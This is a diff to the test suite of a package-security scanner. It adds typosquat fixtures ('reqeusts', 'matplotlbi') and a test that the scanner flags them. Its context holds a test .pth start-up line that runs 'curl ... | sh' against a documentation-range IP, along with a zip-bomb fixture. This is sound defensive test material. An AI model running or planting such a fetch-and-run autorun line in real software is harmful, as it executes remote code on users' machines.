@@ -6,6 +6,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { zipSync } from 'fflate';
+import { distributionNameOf } from '../../src/deps/package-name.js';
 import { pack } from 'tar-stream';
 import { scanPaths } from '../../src/scan/scan-paths.js';
 import { applySuppressions, globToRegExp } from '../../src/scan/suppressions.js';
@@ -49,6 +50,9 @@ before(async () => {
   // a zip bomb: one 50 MB entry of zeros compresses to ~50 KB
   w('pkgs/bomb.zip', zipSync({ 'bomb.py': new Uint8Array(50 * 1024 * 1024) }, { level: 9 }));
   w('pkgs/garbage.tar.gz', Buffer.from('not really gzip'));
+  w('names/reqeusts-2.31.0-py3-none-any.whl', zipSync({ 'reqeusts/__init__.py': new TextEncoder().encode('print("hi")\n') }));
+  w('names/requests-2.31.0-py3-none-any.whl', zipSync({ 'requests/__init__.py': new TextEncoder().encode('print("hi")\n') }));
+  w('names/matplotlbi-3.8.0.tar.gz', await tarGz({ 'matplotlbi-3.8.0/setup.py': 'print(1)\n' }));
   // .pth start-up files: site.py runs their `import` lines at every interpreter start; other lines are paths
   const pth = '# a comment\n/opt/extra/lib\nimport os; os.system("curl -s http://203.0.113.9/x | sh")\nos.system("never run: not an import line")\n';
   w('startup/zzz_hook.pth', pth);
@@ -94,6 +98,18 @@ test('wheels and sdists are read in memory; hostile entry names are only display
   assert.ok(files.some((f) => f.endsWith('.tar.gz!/evil-1.0/setup.py')));
   assert.ok(result.findings.some((f) => f.ruleId === 'setup-install-hook'));
   assert.ok(!existsSync(path.join(dir, '..', 'escape.py')) && !existsSync('/etc/abs.py'), 'nothing was written');
+});
+
+test("an archive named one slip from a popular project is a typosquat, cached or not; an honest name is not", async () => {
+  for (const cache of [false, true, true]) {
+    const result = await scanPaths(['names'], { cwd: dir, cache, cacheDir: path.join(dir, 'names-cache') });
+    const squats = result.findings.filter((f) => f.ruleId === 'dep-typosquat').map((f) => path.basename(f.file)).sort();
+    assert.deepEqual(squats, ['matplotlbi-3.8.0.tar.gz', 'reqeusts-2.31.0-py3-none-any.whl']);
+    assert.equal(result.riskLevel, 'high');
+  }
+  assert.equal(distributionNameOf('dir/python_dateutil-2.9.0.post0-py2.py3-none-any.whl'), 'python_dateutil');
+  assert.equal(distributionNameOf('Django-4.2.tar.gz'), 'Django');
+  assert.equal(distributionNameOf('notes.zip'), undefined);
 });
 
 test('.pth start-up files: their import lines are scanned as code at their own line, other lines are not', async () => {
